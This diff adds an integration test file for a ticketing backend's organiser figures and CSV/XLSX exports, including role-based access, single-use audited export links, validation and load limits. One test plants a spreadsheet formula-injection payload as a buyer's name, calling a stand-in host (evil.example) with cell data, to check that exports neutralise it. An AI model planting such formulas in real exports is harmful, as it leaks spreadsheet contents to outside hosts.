@@ -1,0 +1,374 @@
+import type {
+  ConfirmationDto,
+  Envelope,
+  EventFiguresDto,
+  OrganiserEventDto,
+  ReservationDto,
+} from '@boxoffice/contracts';
+import readXlsxFile from 'read-excel-file/node';
+import { newcomer } from '../accounts/people.ts';
+import { Workspace } from '../events/workspace.ts';
+import { makeMember, memberOf } from '../organisers/organisations.ts';
+import { ageHolds, untilExpired } from '../setup/age-holds.ts';
+import { expectProblem } from '../setup/expect-problem.ts';
+import { addUsers } from '../setup/open-sale.ts';
+import { Randomness } from '../setup/randomness.ts';
+import { until } from '../setup/until.ts';
+import { useSharedApi } from '../setup/use-api.ts';
+import { download, exportLink, readCsv, sumOf } from './exported.ts';
+
+const NO_LIMITS = { maxTicketsPerBooking: null, maxTicketsPerUser: null };
+
+describe('the organiser’s figures', () => {
+  const api = useSharedApi();
+  let workspace: Workspace;
+
+  beforeAll(async () => {
+    workspace = await Workspace.open(api);
+  });
+
+  const address = ({ id }: Pick<OrganiserEventDto, 'id'>): string =>
+    `/organisers/${workspace.id}/events/${id}`;
+
+  async function figuresOf(
+    event: Pick<OrganiserEventDto, 'id'>,
+    by = workspace.manager,
+  ): Promise<EventFiguresDto> {
+    const answer = await api.get<Envelope<EventFiguresDto>>(`${address(event)}/figures`, by);
+    expect(answer.status).toBe(200);
+    return answer.body.data;
+  }
+
+  /** What the rows say, without the ledgers. */
+  const countedOf = (eventId: string): Promise<unknown> =>
+    api.sql.row(
+      `SELECT (SELECT jsonb_object_agg(status, count) FROM (
+           SELECT status, count(*) FROM tickets WHERE event_id = $1 GROUP BY status) AS stock) AS stock,
+         sum(total_minor)::integer AS "takingsMinor",
+         sum(cardinality(ticket_ids))::integer AS sold
+       FROM bookings WHERE event_id = $1 AND status = 'confirmed'`,
+      [eventId],
+    );
+
+  /** Sells to many, some of whom pay, cancel, fail to pay or let their time pass; then as if it had been on many days. */
+  async function sellAtRandom(event: OrganiserEventDto): Promise<void> {
+    const random = new Randomness(14);
+    const buyers = await addUsers(api.sql, 20);
+    const [nave, aisle, gallery] = event.tiers;
+    const [adult, student] = nave?.ticketTypes ?? [];
+    const offers = [
+      { tierId: nave?.id, ticketTypeId: adult?.id },
+      { tierId: nave?.id, ticketTypeId: student?.id },
+      { tierId: aisle?.id },
+      { tierId: gallery?.id },
+    ];
+    const aged: string[] = [];
+    for (let round = 0; round < 150; round += 1) {
+      const userId = buyers[random.below(buyers.length)];
+      const tickets = random
+        .shuffled(offers)
+        .slice(0, 1 + random.below(2))
+        .map((offer) => ({ ...offer, quantity: 1 + random.below(3) }));
+      const asked = { userId, eventId: event.id, tickets };
+      const { status, body } = await api.post<Envelope<ReservationDto>>('/booking/reserve', asked);
+      if (status !== 200) {
+        expect(status).toBe(409);
+        continue;
+      }
+      const { bookingId, reservedTickets } = body.data;
+      const chance = random.below(10);
+      if (chance < 6) {
+        const payment = {
+          userId,
+          bookingId,
+          ticketIds: reservedTickets.map(({ id }) => id),
+          ...(chance === 5 && { paymentSimulation: 'fail' }),
+        };
+        const paid = await api.post<Envelope<ConfirmationDto>>('/booking/confirm', payment);
+        expect(paid.status).toBe(200);
+      } else if (chance < 8) {
+        expect((await api.post(`/booking/${bookingId}/cancel`, { userId })).status).toBe(200);
+      } else if (chance === 8) {
+        await ageHolds(api.sql, [bookingId]);
+        aged.push(bookingId);
+      }
+    }
+    for (const bookingId of aged) await untilExpired(api.sql, bookingId);
+    await api.sql.execute(
+      `UPDATE bookings SET confirmed_at = confirmed_at - id % 9 * interval '7 hours 10 minutes'
+       WHERE event_id = $1 AND status = 'confirmed'`,
+      [event.id],
+    );
+  }
+
+  it('are those of the rows and of every export, after whatever happened', async () => {
+    const event = await workspace.publish(NO_LIMITS);
+    await sellAtRandom(event);
+
+    const figures = await figuresOf(event);
+    const { stock, takingsMinor, tiers, days } = figures;
+    expect(await countedOf(event.id)).toEqual({
+      stock: { available: stock.available, pending: stock.held, booked: stock.sold },
+      takingsMinor,
+      sold: stock.sold,
+    });
+    expect(stock.capacity).toBe(320);
+    expect(stock.sold).toBeGreaterThan(50);
+    expect(stock.held).toBeGreaterThan(0);
+    expect(days.length).toBeGreaterThan(1);
+    const total = (numbers: (number | null)[]): number =>
+      numbers.reduce<number>((sum, number) => sum + (number ?? NaN), 0);
+    expect(total(tiers.map((tier) => tier.sold))).toBe(stock.sold);
+    expect(total(tiers.map((tier) => tier.takingsMinor))).toBe(takingsMinor);
+    expect(total(days.map((day) => day.sold))).toBe(stock.sold);
+    expect(total(days.map((day) => day.takingsMinor))).toBe(takingsMinor);
+    for (const tier of tiers) {
+      expect(total(tier.ticketTypes.map((type) => type.sold))).toBe(tier.sold);
+      expect(total(tier.ticketTypes.map((type) => type.takingsMinor))).toBe(tier.takingsMinor);
+    }
+
+    const exported = async (kind: 'bookings' | 'tickets' | 'takings') =>
+      readCsv((await download(api, address(event), kind, 'csv', workspace.manager)).bytes);
+    const bookings = await exported('bookings');
+    const sold = bookings.filter((row) => row.Status === 'Sold');
+    const held = bookings.filter((row) => row.Status === 'Held');
+    expect(sumOf(sold, 'Tickets')).toBe(stock.sold);
+    expect(sumOf(held, 'Tickets')).toBe(stock.held);
+    expect(sumOf(sold, 'Amount')).toBe((takingsMinor ?? 0) / 100);
+    // By the clock at the venue, so that the day that stands there is the day of the figures.
+    const byDay = Map.groupBy(sold, (row) => row['Paid at']?.slice(0, 10));
+    expect(
+      Object.fromEntries([...byDay].map(([day, rows]) => [day, sumOf(rows, 'Amount')])),
+    ).toEqual(Object.fromEntries(days.map((each) => [each.day, (each.takingsMinor ?? 0) / 100])));
+    expect(sold[0]?.['Paid at']).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+0[12]:00$/);
+    const byTier = Map.groupBy(sold, (row) => row.Tier);
+    for (const tier of tiers) {
+      expect(sumOf(byTier.get(tier.name) ?? [], 'Amount')).toBe((tier.takingsMinor ?? 0) / 100);
+    }
+
+    const tickets = await exported('tickets');
+    expect(new Set(tickets.map((row) => row.Ticket)).size).toBe(stock.sold);
+    expect(tickets).toHaveLength(stock.sold);
+
+    const takings = await exported('takings');
+    expect(sumOf(takings, 'Tickets')).toBe(stock.sold);
+    expect(sumOf(takings, 'Takings')).toBe((takingsMinor ?? 0) / 100);
+    expect(takings.filter((row) => row['Ticket type'] === 'Student').length).toBeGreaterThan(0);
+
+    // And the same as a workbook, whose cells have types.
+    const { bytes, headers } = await download(
+      api,
+      address(event),
+      'bookings',
+      'xlsx',
+      workspace.manager,
+    );
+    expect(headers.get('content-type')).toContain('spreadsheetml.sheet');
+    const [sheet] = await readXlsxFile(bytes);
+    const [headings = [], ...rows] = sheet?.data ?? [];
+    const amount = headings.indexOf('Amount');
+    const status = headings.indexOf('Status');
+    const paid = rows.filter((row) => row[status] === 'Sold');
+    expect(rows).toHaveLength(bookings.length);
+    const inAll = paid.reduce((sum, row) => sum + Number(row[amount]), 0);
+    expect(inAll).toBeCloseTo((takingsMinor ?? 0) / 100, 6);
+  });
+
+  it('are zero for an event that has sold nothing, and so are its exports', async () => {
+    const event = await workspace.create({ name: 'Grüße/„東京“', tiers: [] });
+    expect(await figuresOf(event)).toMatchObject({
+      stock: { capacity: 0, available: 0, held: 0, sold: 0 },
+      takingsMinor: 0,
+      tiers: [],
+      days: [],
+    });
+    for (const kind of ['bookings', 'tickets', 'takings'] as const) {
+      const { bytes, headers } = await download(
+        api,
+        address(event),
+        kind,
+        'csv',
+        workspace.manager,
+      );
+      expect(readCsv(bytes)).toEqual([]);
+      expect(headers.get('content-disposition')).toMatch(
+        /^attachment; filename="Gr..e[^"]*\.csv"; filename\*=UTF-8''Gr%C3%BC%C3%9Fe%20%E2%80%9E%E6%9D%B1/,
+      );
+      expect(headers.get('cache-control')).toContain('no-store');
+      const workbook = await download(api, address(event), kind, 'xlsx', workspace.manager);
+      expect((await readXlsxFile(workbook.bytes))[0]?.data).toHaveLength(1);
+    }
+  });
+
+  it('show takings to managers, counts to the box office, and nothing to the door', async () => {
+    const event = await workspace.publish(NO_LIMITS);
+    const [buyer] = await addUsers(api.sql, 1);
+    const asked = { userId: buyer, eventId: event.id, tickets: [{ tier: 'Aisle', quantity: 2 }] };
+    const { body } = await api.post<Envelope<ReservationDto>>('/booking/reserve', asked);
+    const ticketIds = body.data.reservedTickets.map(({ id }) => id);
+    await api.post('/booking/confirm', { userId: buyer, ticketIds });
+
+    const boxOffice = await memberOf(api, workspace, 'box_office');
+    const counts = await figuresOf(event, boxOffice);
+    expect(counts.stock).toMatchObject({ sold: 2 });
+    expect(counts.days).toEqual([{ day: expect.any(String), sold: 2, takingsMinor: null }]);
+    expect(JSON.stringify(counts)).not.toContain('4400');
+    expect(JSON.stringify(await figuresOf(event))).toContain('4400');
+    const door = await memberOf(api, workspace, 'door');
+    expectProblem(await api.get(`${address(event)}/figures`, door), 403, 'FORBIDDEN');
+
+    const asks = (kind: string, by: typeof door) =>
+      api.post(`${address(event)}/exports`, { kind, format: 'csv' }, by);
+    for (const kind of ['bookings', 'takings']) {
+      expectProblem(await asks(kind, boxOffice), 403, 'FORBIDDEN');
+      expectProblem(await asks(kind, door), 403, 'FORBIDDEN');
+    }
+    expectProblem(await asks('tickets', door), 403, 'FORBIDDEN');
+    const tickets = await download(api, address(event), 'tickets', 'csv', boxOffice);
+    expect(readCsv(tickets.bytes)).toHaveLength(2);
+  });
+
+  it('are downloaded once by a link, by a member who still is one, and it is audited', async () => {
+    const event = await workspace.publish(NO_LIMITS);
+    const member = await memberOf(api, workspace, 'manager');
+    const link = await exportLink(api, address(event), 'takings', 'xlsx', member);
+    expect((await fetch(link)).status).toBe(200);
+    const again = await fetch(link);
+    expect(again.status).toBe(410);
+    expect(await again.json()).toMatchObject({ code: 'TOKEN_INVALID' });
+    expect(
+      await api.sql.rows(
+        `SELECT action, actor_id, after FROM audit_entries
+         WHERE event_id = $1 AND action = 'event.exported'`,
+        [event.id],
+      ),
+    ).toEqual([
+      { action: 'event.exported', actor_id: member.id, after: { kind: 'takings', format: 'xlsx' } },
+    ]);
+
+    const late = await exportLink(api, address(event), 'takings', 'csv', member);
+    await api.sql.execute(`UPDATE export_links SET expires_at = now() WHERE event_id = $1`, [
+      event.id,
+    ]);
+    expect((await fetch(late)).status).toBe(410);
+
+    const former = await exportLink(api, address(event), 'takings', 'csv', member);
+    await api.sql.execute('DELETE FROM organiser_members WHERE user_id = $1', [member.id]);
+    const refused = await fetch(former);
+    expect(refused.status).toBe(404);
+    expect(await refused.json()).toMatchObject({ code: 'ORGANISER_NOT_FOUND' });
+    // Their token is as good as it was; what it may do is asked each time.
+    expectProblem(await api.get(`${address(event)}/figures`, member), 404, 'ORGANISER_NOT_FOUND');
+  });
+
+  it.each([
+    [{ kind: 'everything', format: 'csv' }, 'kind'],
+    [{ kind: 'bookings', format: 'pdf' }, 'format'],
+    [{ kind: 'bookings' }, 'format'],
+    [{ format: 'csv' }, 'kind'],
+    [{ kind: ['bookings'], format: 'csv' }, 'kind'],
+    [{ kind: 'bookings', format: 'csv', language: 'fr' }, 'language'],
+  ])('are not exported as %j', async (body, field) => {
+    const event = await workspace.create();
+    const answer = await api.post(`${address(event)}/exports`, body, workspace.manager);
+    const problem = expectProblem(answer, 422, 'VALIDATION_FAILED');
+    expect(problem).toMatchObject({ errors: [{ field }] });
+  });
+
+  it.each(['', '?token=', '?token=a&token=b', '?token=%00', '?token=no-such-token'])(
+    'are not downloaded by %j',
+    async (query) => {
+      const answer = await fetch(api.at(`/exports${query}`));
+      expect([410, 422]).toContain(answer.status);
+    },
+  );
+
+  it('carry nothing out that a buyer is called', async () => {
+    const event = await workspace.publish(NO_LIMITS);
+    const buyer = await newcomer(api);
+    const name = '=HYPERLINK("https://evil.example/?"&A1,"Click, please")';
+    await api.sql.execute('UPDATE users SET name = $1 WHERE id = $2', [name, buyer.id]);
+    const asked = { eventId: event.id, tickets: [{ tier: 'Aisle', quantity: 1 }] };
+    expect((await api.post('/booking/reserve', asked, buyer)).status).toBe(200);
+    const csv = await download(api, address(event), 'bookings', 'csv', workspace.manager);
+    expect(readCsv(csv.bytes)).toMatchObject([{ Buyer: `'${name}`, Email: buyer.email }]);
+    const xlsx = await download(api, address(event), 'bookings', 'xlsx', workspace.manager);
+    const [sheet] = await readXlsxFile(xlsx.bytes);
+    expect(sheet?.data[1]).toContain(name);
+  });
+
+  it('stop where nobody reads on, and are refused where too many are under way', async () => {
+    const event = await workspace.publish(NO_LIMITS);
+    const manager = workspace.manager;
+    // More than fits between the database and somebody who doesn't read.
+    const [buyer] = await addUsers(api.sql, 1);
+    await api.sql.execute(
+      `WITH tier AS (
+         INSERT INTO tiers (event_id, id, name, price_minor, position)
+         VALUES ($1, $1, 'T', 1, 9)
+       ), booked AS (
+         INSERT INTO bookings (event_id, id, user_id, ticket_ids, lines, total_minor, currency,
+           hold_expires_at, status, confirmed_at)
+         SELECT $1, $1::bigint + number, $2, ARRAY[$1::bigint + number],
+           jsonb_build_array(jsonb_build_object('tierId', $1::text, 'tier', 'T', 'ticketType',
+             repeat('🎫', 3000), 'quantity', 1, 'priceMinor', 1)), 1, 'EUR', now(), 'confirmed', now()
+         FROM generate_series(1, 3000) AS number
+       ), paid AS (
+         INSERT INTO payments (event_id, id, booking_id, provider, provider_reference,
+           amount_minor, currency, status)
+         SELECT $1, $1::bigint + number, $1::bigint + number, 'simulation', number, 1, 'EUR', 'captured'
+         FROM generate_series(1, 3000) AS number
+       )
+       SELECT`,
+      [event.id, buyer],
+    );
+    await api.sql.execute(
+      `INSERT INTO tickets (event_id, id, tier_id, status, booking_id, user_id, booked_at)
+       SELECT $1, $1::bigint + number, $1, 'booked', $1::bigint + number, $2, now()
+       FROM generate_series(1, 3000) AS number`,
+      [event.id, buyer],
+    );
+
+    const readers = [new AbortController(), new AbortController()];
+    const [first, second] = await Promise.all(
+      readers.map(async ({ signal }) => {
+        const link = await exportLink(api, address(event), 'bookings', 'csv', manager);
+        return fetch(link, { signal });
+      }),
+    );
+    expect([first?.status, second?.status]).toEqual([200, 200]);
+    const running = async (): Promise<number> => {
+      const { count } = await api.sql.row<{ count: number }>(
+        `SELECT count(*)::integer AS count FROM pg_stat_activity
+         WHERE datname = current_database() AND xact_start IS NOT NULL
+           AND query LIKE 'FETCH % FROM exported'`,
+      );
+      return count;
+    };
+    expect(await running()).toBe(2);
+    const busy = await api.post(
+      `${address(event)}/exports`,
+      { kind: 'takings', format: 'csv' },
+      manager,
+    );
+    expectProblem(busy, 503, 'BUSY');
+    expect(Number(busy.headers['retry-after'])).toBeGreaterThan(0);
+    // Nobody who buys or looks notices.
+    expect((await figuresOf(event)).stock.sold).toBe(3_000);
+
+    for (const reader of readers) reader.abort();
+    await until('both exports have given their connections back', async () => {
+      return (await running()) === 0;
+    });
+    const whole = await download(api, address(event), 'bookings', 'csv', manager);
+    expect(readCsv(whole.bytes)).toHaveLength(3_000);
+  });
+
+  it('are those of the whole organisation for an admin', async () => {
+    const event = await workspace.publish(NO_LIMITS);
+    const admin = await newcomer(api, 'admin');
+    expect((await figuresOf(event, admin)).takingsMinor).toBe(0);
+    await makeMember(api, admin, 'door', workspace.id);
+    expect((await figuresOf(event, admin)).takingsMinor).toBe(0);
+  });
+});
